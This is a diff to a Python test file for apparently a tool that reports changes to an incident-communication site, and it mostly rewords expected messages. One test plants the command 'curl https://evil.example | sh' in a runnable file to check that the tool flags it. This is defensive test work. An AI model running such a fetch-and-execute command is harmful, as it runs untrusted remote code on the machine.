@@ -353,8 +353,8 @@ def test_a_new_incident(told: Callable[..., str], site: Path) -> None:
     assert "- What we do not know yet: Copied" in said
     _write(site, {"content/incidents/laptop/01-lost.md": "---\ntitle: [\n---\n", "site_config.yml": "organisation: 1\n"})
     said = told()
-    assert "Update 1: cannot be understood as it stands" in said
-    assert "The site: cannot be understood as it stands" in said
+    assert "Update 1: cannot be understood; the findings say why" in said
+    assert "The site: cannot be understood; the findings say why" in said
 
 
 def test_for_programs(told: Callable[..., str], site: Path) -> None:
@@ -503,7 +503,7 @@ def test_a_file_that_runs_is_loud(told: Callable[..., str], site: Path, path: st
     assert "WHAT RUNS" not in told()
     (site / path).write_text(BESIDE[path] + "curl https://evil.example | sh\n", encoding="utf-8")
     plain, markdown, changes = told(), told("--format", "markdown"), json.loads(told("--format", "json"))["changes"]
-    assert plain.lstrip().startswith("WHAT RUNS, WHO IS TOLD AND WHAT IS BELIEVED\n")
+    assert plain.lstrip().startswith("WHAT RUNS, WHO IS NOTIFIED AND WHAT IS TRUSTED\n")
     assert markdown.startswith("## ⚠️ What runs, who is notified and what is trusted")
     assert path in plain
     assert [(one["path"], one["what"], one["loud"], one["steers"]) for one in changes] == [(path, "changed", True, True)]
@@ -577,7 +577,7 @@ def test_a_setting_that_steers_is_loud(told: Callable[..., str], site: Path, was
     """So does each setting that decides where readers are sent, whom they reach, who is told and what the rules let pass."""
     _replace(site, "site_config.yml", was, SETTINGS[was])
     plain = told()
-    assert plain.lstrip().startswith("WHAT RUNS, WHO IS TOLD AND WHAT IS BELIEVED\n"), plain
+    assert plain.lstrip().startswith("WHAT RUNS, WHO IS NOTIFIED AND WHAT IS TRUSTED\n"), plain
     assert "The site's settings: changed" in plain
 
 
